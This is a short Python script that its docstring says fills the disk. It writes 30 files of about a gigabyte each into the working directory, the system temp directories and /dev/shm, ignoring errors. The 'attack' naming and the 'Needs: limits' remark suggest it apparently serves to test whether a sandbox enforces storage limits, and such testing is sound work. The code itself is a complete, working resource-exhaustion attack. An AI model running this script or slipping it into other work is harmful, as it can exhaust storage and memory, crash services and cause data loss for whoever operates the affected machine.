"""Fills the disk: files without end, and more of them. Needs: limits."""

import contextlib
import os
import tempfile

for folder in (".", tempfile.gettempdir(), "/tmp", "/var/tmp", "/dev/shm"):
    for number in range(30):
        with contextlib.suppress(OSError), open(os.path.join(folder, f"tinycnn-attack-{number}"), "wb") as file:
            for _ in range(1000):
                file.write(b"x" * 2**20)
